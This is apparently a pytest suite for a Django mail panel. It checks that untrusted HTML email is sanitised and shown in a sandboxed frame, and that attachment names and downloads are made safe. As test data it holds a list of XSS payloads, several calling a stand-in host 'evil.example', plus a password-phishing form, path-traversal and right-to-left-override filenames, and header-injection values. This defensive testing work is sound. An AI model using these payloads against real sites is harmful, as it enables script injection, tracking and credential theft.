"""Foreign HTML in the mail log: cleaned, in a frame that may do nothing, and opened in a real browser."""

import base64
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from email.message import EmailMessage

import pytest
from django.test import Client
from django.urls import reverse
from playwright.sync_api import BrowserContext, Page, expect

from placet.accounts.models import Person
from placet.mail.models import IncomingMail, OutgoingMail
from placet.panel import mail_html
from placet.panel.mail_html import LARGEST_PLACED, POLICY, about, harmless
from placet.panel.mail_parts import LARGEST_PICTURE, content_of
from placet.replies.parse import limits
from placet.replies.parse.attachments import attachments_of
from tests.pages.test_browser import _fits, _signed_in, context, dress

__all__ = ["context", "dress"]  # fixtures

As = Callable[[Person | None], Client]
EVIL = "http://evil.example"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
# Each of them runs, loads or leads somewhere in a browser that is given it as it is.
ATTACKS = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>m</maction></math>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href='{EVIL}/'><a href=x>base</a>",
    f"<img src='{EVIL}/pixel.png'>",
    f"<img src=x onerror=alert(1) srcset='{EVIL}/s.png 1x'>",
    f"<picture><source srcset={EVIL}/p.png><img src=cid:none></picture>",
    f"<input type=image src={EVIL}/i.png autofocus onfocus=alert(1)>",
    f"<body background={EVIL}/bg.png onload=alert(1)>",
    f"<table background={EVIL}/t.png><tr><td background={EVIL}/td.png>t</td></tr></table>",
    f"<p style=\"background:url('{EVIL}/css.png')\">css</p>",
    f"<p style='background-image:u\\72l({EVIL}/esc.png)'>css</p>",
    f"<p style='background:image-set(\"{EVIL}/set.png\" 1x)'>css</p>",
    f"<p style='border-image-source:url({EVIL}/b.png); cursor:url({EVIL}/c.png),auto'>c</p>",
    f"<p style='list-style:url({EVIL}/l.png);content:url({EVIL}/d.png)'>c</p>",
    f"<style>@import '{EVIL}/i.css'; body {{ background: url({EVIL}/s.png) }}</style>",
    f"<style>@font-face {{ font-family: x; src: url({EVIL}/f.woff) }}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css><link rel=dns-prefetch href=//dns.evil.example>",
    f"<link rel=preconnect href={EVIL}><link rel=icon href={EVIL}/favicon.ico>",
    "<a href='javascript:alert(1)'>js</a><a href='data:text/html,<script>alert(1)</script>'>data</a>",
    f"<a href='{EVIL}/ping' ping='{EVIL}/ping'>link</a><map><area href={EVIL}/area></map>",
    f"<form action={EVIL}/form><input name=password><button>Sign in</button></form>",
    f"<iframe src={EVIL}/frame></iframe><iframe srcdoc='<script>alert(1)</script><iframe srcdoc=x>'></iframe>",
    f"<frameset><frame src={EVIL}/f></frameset><object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<video src={EVIL}/v autoplay poster={EVIL}/poster></video><audio src={EVIL}/a autoplay></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>m</marquee>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'>',
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
]


@pytest.fixture
def ada(admin: Person, as_: As) -> Client:
    return as_(admin)


def mail_of(markup: str, text: str = "The text.") -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Eve <eve@evil.example>", "approvals@contoso.example"
    mail["Subject"] = "A mail with HTML"
    mail.set_content(text)
    mail.add_alternative(markup, subtype="html")
    return mail


def came(incoming: IncomingMail, mail: EmailMessage | bytes) -> IncomingMail:
    raw = mail if isinstance(mail, bytes) else mail.as_bytes()
    IncomingMail.objects.filter(pk=incoming.pk).update(raw=raw)
    return incoming


def framed(browser: Client, incoming: IncomingMail) -> str:
    answer = browser.get(reverse("panel:mail_html", args=[incoming.pk]))
    assert answer.status_code == 200
    return answer.content.decode()


# --- cleaned ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_leads_anywhere_is_left(attack: str) -> None:
    body = harmless(f"<p>before</p>{attack}", {}).body
    assert "before" in body
    markup = re.sub(r' (?:title|alt)="[^"]*"', "", body)  # text that is read
    tags = " ".join(re.findall(r"<[^>]*>", markup)).lower()
    assert set(re.findall(r"<([a-z:-]+)", tags)) <= {"a", "div", "p", "span", "table", "tbody", "td", "tr"}
    assert set(re.findall(r"([a-z:-]+)=", tags)) <= {"style"}
    for part in ("url", "image", "evil.example", "alert", "import"):
        assert part not in tags


def test_what_people_wrote_is_still_there_as_they_formatted_it() -> None:
    shown = harmless(
        "<body bgcolor='#eeeeee'><p style='color:red; position:fixed; font:12px/1.5 Arial'>Hello&nbsp;<b>Ann</b></p>"
        "<table width=300 border=1><tr><td align=right>1 &lt; 2</td></tr></table><o:p>Office</o:p></body>",
        {},
    )
    assert '<p style="color: red; font: 12px/1.5 Arial">Hello&nbsp;<b>Ann</b></p>' in shown.body
    assert '<td align="right">1 &lt; 2</td>' in shown.body
    assert "Office" in shown.body
    assert (shown.links, shown.not_loaded, shown.cut) == ([], 0, False)


def test_links_lead_nowhere_but_say_where_they_would() -> None:
    shown = harmless(f"<a href='{EVIL}/a?b=1&amp;c'>pay</a> <a href=' java\nscript:x '>x</a>", {})
    assert "href" not in shown.body
    assert f'<a title="{EVIL}/a?b=1&amp;c">pay</a>' in shown.body
    assert shown.links == [f"{EVIL}/a?b=1&c", "java script:x"]


def test_pictures_that_came_with_the_mail_are_shown_and_no_others() -> None:
    mail = mail_of("")
    html = mail.get_payload(1)
    assert isinstance(html, EmailMessage)
    html.set_content(
        f"<img src='cid:logo' alt=Logo><img src='cid:big'><img src='cid:svg'><img src='{EVIL}/x' alt='A cat'>",
        subtype="html",
    )
    html.add_related(PNG, "image", "png", cid="<logo>")
    html.add_related(PNG + b"x" * LARGEST_PICTURE, "image", "png", cid="<big>")
    html.add_related(b"<svg onload=alert(1)>", "image", "svg+xml", cid="<svg>")
    html.add_related(b"<svg onload=alert(1)>", "image", "png", cid="<fake>")
    content = content_of(mail.as_bytes())
    assert list(content.pictures) == ["logo"]
    shown = harmless(content.markup, content.pictures)
    assert shown.body.count("<img") == 1
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in shown.body
    assert "A cat" in shown.body
    assert shown.not_loaded == 3


def test_one_picture_that_is_used_ten_thousand_times_makes_no_page_of_hundreds_of_megabytes() -> None:
    large = f"data:image/png;base64,{'A' * 20_000}"
    markup = "<p>before</p>" + "<img src='cid:a' alt='A cat'>" * 10_000
    shown, said = harmless(markup, {"a": large}), about(markup, {"a": large})
    assert 0 < shown.body.count("<img") * len(large) <= LARGEST_PLACED
    assert len(shown.body) < 2 * LARGEST_PLACED
    assert "before" in shown.body and "A cat" in shown.body
    assert shown.cut and shown.not_loaded == 0
    assert (said.cut, said.not_loaded, said.body) == (True, 0, "")


def test_a_small_picture_may_be_used_often() -> None:
    small = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
    shown = harmless("<img src='cid:a'>" * 1_000, {"a": small})
    assert shown.body.count(small) == 1_000
    assert not shown.cut


def test_what_is_said_beside_the_frame_needs_no_picture_in_memory() -> None:
    pictures = {"a": f"data:image/png;base64,{'A' * 600_000}"}
    root, _shown = mail_html._read("<img src='cid:a'>", mail_html._Pictures(pictures, placed=False))
    assert root is not None and not root.xpath("//*[@src]")


@pytest.mark.parametrize("page", ["outgoing_html", "outgoing_mail"])
def test_of_mail_out_pictures_are_bounded_too(page: str, ada: Client, incoming: IncomingMail) -> None:
    mail = mail_of("")
    html = mail.get_payload(1)
    assert isinstance(html, EmailMessage)
    html.set_content("<img src='cid:a'>" * 10_000, subtype="html")
    html.add_related(PNG + b"x" * 10_000, "image", "png", cid="<a>")
    out = OutgoingMail.objects.create(
        mailbox=incoming.mailbox, kind="ask", to="bob@contoso.example", cause="test", reference="1",
        message_id="<1@x>", subject="Please decide", raw=mail.as_bytes(),
    )  # fmt: skip
    shown = ada.get(reverse(f"panel:{page}", args=[out.pk]))
    assert len(shown.content) < 2 * LARGEST_PLACED
    assert page == "outgoing_html" or "Only the beginning is shown" in shown.content.decode()


def test_reply_codes_are_left_out_also_where_markup_cuts_them() -> None:
    code = "abcdefghijklmnop"
    shown = harmless(
        f"<p>[#{code}] [#abcdefgh<span>ijkl</span><b>mnop</b>] #{code}</p><td>next</td>"
        f"<a href='mailto:a%2b{code}@x.example?subject=%5B%23{code}%5D' title='[#{code}]'>x</a><img alt='+{code}@'>",
        {},
    )
    for piece in (code, "abcdefgh", "ijkl", "mnop"):
        assert piece not in shown.body
        assert piece not in str(shown.links)
    assert "[#…] [#…" in shown.body


@pytest.mark.parametrize(
    "markup",
    [
        "<table>" + "<tr><td>cell</td></tr>" * 95_000 + "</table>",
        "".join(f"<font color=#{number:06x}>" for number in range(20_000)) + "<p>x</p>" * 60_000,
        "<p><b><i><u><a href=y>x</p>" * 40_000,
        "<div>" * 300_000,
        "<svg/>x" * 250_000,
        "<p " + "a=1 " * 400_000 + ">x",
        "<" * 1_900_000,
        "&" * 1_900_000,
        "<p style='" + "color:red;" * 190_000 + "'>x",
        "#abcdefghijklmnop<b>" * 90_000,
        "<!--" * 400_000,
    ],
)
def test_work_on_hostile_html_is_bounded(markup: str) -> None:
    before = time.process_time()
    shown = harmless(markup, {})
    assert time.process_time() - before < 3
    assert len(shown.body) <= 5 * limits.HTML


# --- the frame --------------------------------------------------------------------------------------------


def test_the_frame_may_do_nothing(ada: Client, incoming: IncomingMail) -> None:
    came(incoming, mail_of("<p>Hello</p>"))
    answer = ada.get(reverse("panel:mail_html", args=[incoming.pk]))
    assert answer["Content-Security-Policy"] == POLICY
    for rule in ("default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'self'"):
        assert rule in POLICY
    assert POLICY.endswith("; sandbox")
    assert "script" not in POLICY
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Referrer-Policy"] == "no-referrer"
    assert "no-store" in answer["Cache-Control"]
    page = ada.get(reverse("panel:incoming_mail", args=[incoming.pk])).content.decode()
    assert 'sandbox="" referrerpolicy="no-referrer" loading="lazy"' in page
    assert "<p>Hello</p>" not in page


def test_a_charset_is_read_as_it_is_for_an_answer(ada: Client, incoming: IncomingMail) -> None:
    raw = b"Content-Type: text/html; charset=iso-8859-1\r\n\r\n<p>Gr\xc3\xbc\xc3\x9fe</p>"
    assert "Grüße" in framed(ada, came(incoming, raw))
    raw = b"Content-Type: text/html; charset=koi8-r\r\n\r\n<p>\xf0\xf2\xe9\xf7\xe5\xf4</p>"
    assert "ПРИВЕТ" in framed(ada, came(incoming, raw))


@pytest.mark.parametrize(
    "raw", [b"", b"X: " + b"x" * 300_000, b"Content-Type: text/html\r\n\r\n", b"\x00\xff" * 99]
)
def test_a_mail_without_html_has_an_empty_frame_and_a_page(
    raw: bytes, ada: Client, incoming: IncomingMail
) -> None:
    assert "<body></body>" in framed(ada, came(incoming, raw))
    assert ada.get(reverse("panel:incoming_mail", args=[incoming.pk])).status_code == 200


# --- attachments ------------------------------------------------------------------------------------------


def attached(name: str, content_type: str = "application/pdf", data: bytes = b"%PDF-1.7") -> EmailMessage:
    mail = mail_of("<p>Hello</p>")
    main, sub = content_type.split("/")
    mail.add_attachment(data, main, sub, filename=name)
    return mail


def listed(mail: EmailMessage | bytes) -> list[tuple[str, int]]:
    raw = mail if isinstance(mail, bytes) else mail.as_bytes()
    return [(one.name, one.size) for one in attachments_of(raw)]


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("offer.pdf", "offer.pdf"),
        ("Angebot für Ö.pdf", "Angebot für Ö.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\evil.exe", "evil.exe"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("..", "attachment-4.pdf"),
        ("", "attachment-4.pdf"),
        ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
        ('a<b>"c|d?.txt', "a_b__c_d_.txt"),
    ],
)
def test_names_of_attachments_are_nothing_but_names(given: str, shown: str) -> None:
    assert [name for name, _size in listed(attached(given))] == [shown]


@pytest.mark.parametrize(
    "header",
    [
        'attachment; filename="=?utf-8?q?r=C3=A9sum=C3=A9.pdf?="',
        "attachment; filename*=utf-8'fr'r%C3%A9sum%C3%A9.pdf",
        "attachment; filename*0*=utf-8''r%C3%A9; filename*1*=sum%C3%A9; filename*2=.pdf",
        "attachment; filename=\"x.pdf\"; filename*=iso-8859-1''r%E9sum%E9.pdf",
    ],
)
def test_names_are_read_however_they_are_written(header: str) -> None:
    raw = f"Content-Type: application/pdf\r\nContent-Disposition: {header}\r\n\r\nx".encode()
    assert listed(raw) == [("résumé.pdf", 1)]


def test_an_attachment_is_a_download_that_no_browser_opens(ada: Client, incoming: IncomingMail) -> None:
    came(
        incoming,
        attached('evil\r\nX-Evil: yes".html'.replace("\r\n", " "), "text/html", b"<script>alert(1)</script>"),
    )
    page = ada.get(reverse("panel:incoming_mail", args=[incoming.pk])).content.decode()
    address = reverse("panel:attachment", args=[incoming.pk, 4])
    answer = ada.get(address)
    assert f'href="{address}"' in page
    assert answer.content == b"<script>alert(1)</script>"
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert not answer.has_header("X-Evil")
    assert "<script>" not in page


def test_an_attached_mail_is_one_file_with_all_that_belongs_to_it(
    ada: Client, incoming: IncomingMail
) -> None:
    inner = attached("inside.pdf")
    mail = mail_of("<p>Forwarded</p>")
    mail.add_attachment(inner, filename="../fwd")
    came(incoming, mail)
    assert listed(mail) == [("fwd.eml", 0)]
    answer = ada.get(reverse("panel:attachment", args=[incoming.pk, 4]))
    assert answer["Content-Disposition"] == 'attachment; filename="fwd.eml"'
    assert listed(answer.content) == [("inside.pdf", 8)]
    assert b"base64" in answer.content
    assert ada.get(reverse("panel:attachment", args=[incoming.pk, 7])).status_code == 404
    assert ada.get(reverse("panel:attachment", args=[incoming.pk, 0])).status_code == 404


def test_an_attached_mail_is_saved_byte_by_byte_however_broken_it_is(
    ada: Client, incoming: IncomingMail
) -> None:
    inner = (
        b"Subject: \xe9\nContent-Type: multipart/mixed; boundary=\xff\nContent-Transfer-Encoding: 8bit\n\n--\xff\n"
        b"Content-Type: text/plain; charset=x-none\n\nh\xc3\xa9llo \xed\xa0\x80"
    )
    other = b"Subject: the other\n\nhi"
    part = b"--b\nContent-Type: message/rfc822\n\n"
    raw = (
        b"Content-Type: multipart/mixed; boundary=b\n\n" + part + inner + b"\n" + part + other + b"\n--b--\n"
    )
    came(incoming, raw)
    numbers = [one.number for one in attachments_of(raw)]
    saved = [ada.get(reverse("panel:attachment", args=[incoming.pk, number])).content for number in numbers]
    assert saved == [inner, other]


def test_attachments_behind_what_is_read_for_an_answer_are_whole(ada: Client, incoming: IncomingMail) -> None:
    data = bytes(range(256)) * (3 * limits.READ // 256)
    came(incoming, attached("large.bin", "application/octet-stream", data))
    page = ada.get(reverse("panel:incoming_mail", args=[incoming.pk])).content.decode()
    assert "large.bin" in page
    assert ada.get(reverse("panel:attachment", args=[incoming.pk, 4])).content == data


def test_attachments_of_a_hostile_mail_are_none(ada: Client, incoming: IncomingMail) -> None:
    came(incoming, b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 5_000)
    assert ada.get(reverse("panel:incoming_mail", args=[incoming.pk])).status_code == 200
    assert ada.get(reverse("panel:attachment", args=[incoming.pk, 1])).status_code == 404


# --- in a real browser ------------------------------------------------------------------------------------


@contextmanager
def nothing_happens(context: BrowserContext) -> Iterator[Page]:
    """Ada's page, on which no script of a mail runs and nothing is asked of anybody else."""
    asked_for: list[str] = []
    noted: list[str] = []
    page = _signed_in(context, "ada@contoso.example", noted)
    host = page.url.rstrip("/")
    context.on("request", lambda request: asked_for.append(request.url))
    page.on("dialog", lambda dialog: noted.append(f"dialog: {dialog.message}"))
    yield page
    ours = (f"{host}/", "data:image/png")
    assert [address for address in asked_for if not address.startswith(ours)] == []
    assert [text for text in noted if "/static/" not in text] == []


@pytest.mark.parametrize("dress", [("wide", True), ("phone", True)], ids=["wide", "phone"], indirect=True)
def test_in_a_browser_no_script_runs_no_request_leaves_and_the_page_holds(
    context: BrowserContext, incoming: IncomingMail, admin: Person
) -> None:
    with nothing_happens(context) as page:
        table = "<table>" + "<tr><td>a cell of a very large table</td></tr>" * 60_000 + "</table>"
        came(incoming, mail_of("<a href='javascript:alert(1)'>js</a>" + "".join(ATTACKS[:20]) + table))
        page.goto(reverse("panel:incoming_mail", args=[incoming.pk]))
        frame = page.locator("iframe.mail-frame")
        frame.scroll_into_view_if_needed()
        expect(frame.content_frame.get_by_text("a cell of a very large table").first).to_be_visible()
        frame.content_frame.get_by_text("js", exact=True).first.click()
        box = frame.bounding_box()
        assert box
        assert box["height"] < 700
        assert _fits(page)
        assert len(page.frames) == 2


@pytest.mark.parametrize("dress", [("wide", True)], ids=["wide"], indirect=True)
def test_as_pages_of_their_own_they_can_do_no_more(
    context: BrowserContext, incoming: IncomingMail, admin: Person
) -> None:
    with nothing_happens(context) as page:
        for attack in ATTACKS:
            came(incoming, mail_of(f"<p>A beginning.</p>{attack}"))
            page.goto(reverse("panel:mail_html", args=[incoming.pk]))
            expect(page.get_by_text("A beginning.")).to_be_visible()
            assert len(page.frames) == 1
